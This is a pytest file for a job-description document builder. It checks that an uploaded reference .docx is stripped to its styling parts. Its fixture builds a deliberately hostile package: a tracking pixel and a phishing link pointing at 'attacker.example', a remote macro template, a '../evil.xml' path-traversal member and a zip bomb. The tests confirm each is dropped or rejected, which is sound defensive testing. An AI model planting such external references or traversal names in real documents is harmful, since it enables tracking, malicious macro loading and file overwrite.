"""A reference .docx is reduced to the parts that make the look; what points outside is dropped
with a warning naming the file, and odd but valid part names still work."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx

from jdbuilder.compose import Request
from jdbuilder.pipeline import Pipeline, Sources

from .zipkit import reference_members, write_zip

EVIL = "http://attacker.example/"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                     "1f15c4890000000d4944415478da63f8cfc0f01f0005000201e2f4d4a30000000049454e44ae426082")


def _relationship(rel_id: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rel_id}" Type="{_REL}{kind}" Target="{target}"{mode}/>'
            ).encode()


def _add_relationships(members: dict[str, bytes], name: str, *relationships: bytes) -> None:
    if name not in members:
        members[name] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                         b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         b"</Relationships>")
    members[name] = members[name].replace(b"</Relationships>",
                                          b"".join(relationships) + b"</Relationships>")


def hostile_reference(tmp_path: Path) -> Path:
    members = reference_members()
    # A header image that is kept, an external image link and an external hyperlink that are not.
    _add_relationships(members, "word/_rels/header1.xml.rels",
                       _relationship("rIdLogo", "image", "media/logo.png"),
                       _relationship("rIdSpy", "image", EVIL + "pixel.png", external=True),
                       _relationship("rIdLink", "hyperlink", EVIL + "phish", external=True))
    members["word/media/logo.png"] = _PNG
    members["word/header1.xml"] = members["word/header1.xml"].replace(
        b"</w:hdr>", b'<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>x</w:t></w:r></w:hyperlink>'
                     b'<w:r><w:t xml:space="preserve"> </w:t></w:r></w:p></w:hdr>')
    # A remote attached template.
    _add_relationships(members, "word/_rels/settings.xml.rels",
                       _relationship("rIdT", "attachedTemplate", EVIL + "macros.dotm",
                                     external=True))
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
    # A body image, custom XML and a member named to land outside the package.
    _add_relationships(members, "word/_rels/document.xml.rels",
                       _relationship("rIdBody", "image", "media/body.png"))
    members["word/media/body.png"] = _PNG
    members["customXml/item1.xml"] = b"<secret>payroll</secret>"
    members["../evil.xml"] = b"<x/>"
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
    return write_zip(tmp_path / "letterhead.docx", members)


def _build(profile, reference: Path):
    pipeline = Pipeline(Sources(reference_docx=reference), profile=profile)
    return pipeline.build(Request("posting", "admissions", "journey"), "docx",
                          pipeline.organization())


def test_a_reference_is_reduced_to_the_look_and_says_what_it_dropped(profile, tmp_path):
    reference = hostile_reference(tmp_path)
    made = _build(profile, reference)
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert archive.testzip() is None
        names = set(archive.namelist())
        everything = b"".join(archive.read(name) for name in names)
    assert names == {"[Content_Types].xml", "_rels/.rels", "docProps/core.xml",
                     "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml",
                     "word/settings.xml", "word/fontTable.xml", "word/theme/theme1.xml",
                     "word/numbering.xml", "word/header1.xml", "word/_rels/header1.xml.rels",
                     "word/media/logo.png", "word/footer1.xml"}
    assert b"attacker.example" not in everything and b"payroll" not in everything
    assert b"attachedTemplate" not in everything and b"rIdLink" not in everything
    warnings = [p.line() for p in made.problems if p.code == "reference"]
    assert all(line.startswith(f"{reference}: reference document:") for line in warnings)
    said = " ".join(warnings)
    for dropped in ("pixel.png", "phish", "the attached template", "macros.dotm", "'../evil.xml'"):
        assert dropped in said
    assert "body.png" not in said and "item1.xml" not in said  # the body's parts go quietly
    document = docx.Document(io.BytesIO(made.content))
    assert document.paragraphs[0].text == "Senior Admissions Counselor"
    header = document.sections[0].header.paragraphs[0]._p.xml
    assert "Senior Admissions Counselor" in header


def test_styles_saved_under_another_valid_name_still_work(profile, tmp_path):
    members = reference_members()
    members["word/styles2.xml"] = members.pop("word/styles.xml")
    for name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
        members[name] = members[name].replace(b"styles.xml", b"styles2.xml")
    made = _build(profile, write_zip(tmp_path / "renamed.docx", members))
    with zipfile.ZipFile(io.BytesIO(made.content)) as archive:
        assert "word/styles.xml" in archive.namelist()
        assert b'Target="styles.xml"' in archive.read("word/_rels/document.xml.rels")
    assert not [p for p in made.problems if p.code == "reference"]
    assert docx.Document(io.BytesIO(made.content)).paragraphs[0].style.name == "Title"


def test_the_built_in_reference_has_nothing_to_drop(profile):
    made = Pipeline(profile=profile).build(Request("posting", "admissions", "journey"), "docx")
    assert not [p for p in made.problems if p.code == "reference"]


def test_a_zip_bomb_reference_is_one_line_and_exit_2(cli, tmp_path, monkeypatch):
    import jdbuilder.safezip as safezip

    monkeypatch.setattr(safezip, "MAX_MEMBER_BYTES", 4 * 1024 * 1024)
    members = reference_members() | {"word/media/zeros.bin": bytes(8 * 1024 * 1024)}
    bomb = write_zip(tmp_path / "bomb.docx", members)
    result = cli(["--reference-docx", str(bomb), "posting", "-s",
                  "admissions", "-l", "journey", "-o",
                  str(tmp_path / "out.docx")])
    assert result.exit_code == 2, result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "Traceback" not in result.output
    assert re.search(r"bomb\.docx: member 'word/media/zeros\.bin' unpacks to 8,388,608 bytes",
                     errors[0])
    assert not (tmp_path / "out.docx").exists()


def test_a_pale_reference_warns_at_build_naming_title_subtitle_and_each_heading(tmp_path, make_pipeline):
    import re as regex
    import zipfile as zipmodule

    from jdbuilder.compose import Request
    from jdbuilder.pipeline import Sources
    from jdbuilder.resources import builtin_templates_dir

    builtin = builtin_templates_dir() / "reference.docx"
    pale = tmp_path / "pale.docx"
    with zipmodule.ZipFile(builtin) as source, zipmodule.ZipFile(pale, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/styles.xml":
                data = regex.sub(rb'w:color w:val="[0-9A-Fa-f]{6}"', b'w:color w:val="AAAAAA"',
                                 data)
            target.writestr(info, data)
    made = make_pipeline(Sources(reference_docx=pale)).build(
        Request("posting", "admissions", "journey"), "docx")
    named = [p.location.place for p in made.problems if p.code == "accessibility"]
    for style in ("Title", "Subtitle", "Heading 1", "Heading 2", "Heading 3"):
        assert f"style '{style}'" in named
    assert all("#AAAAAA" in p.message for p in made.problems if p.code == "accessibility")
    plain = make_pipeline(Sources()).build(Request("posting", "admissions", "journey"), "docx")
    assert not [p for p in plain.problems if p.code == "accessibility"]
